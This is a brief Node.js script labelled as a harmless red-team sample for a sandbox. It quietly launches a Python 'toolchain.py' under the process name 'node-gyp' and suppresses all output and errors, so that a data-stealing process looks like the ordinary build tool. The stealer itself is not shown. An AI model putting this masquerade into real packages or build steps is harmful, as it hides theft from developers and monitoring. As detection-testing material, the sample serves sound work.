// HARMLESS red-team sample (fumehood sandbox only): starts python with argv[0] "node-gyp" (and the
// python side renames its comm to "node-gyp" too), so the stealing process looks like the build tool.
'use strict';
const { spawnSync } = require('child_process'), path = require('path');
try {
  spawnSync('python3', [path.join(__dirname, 'toolchain.py')], { argv0: 'node-gyp', stdio: 'ignore', timeout: 20000 });
} catch (e) {}
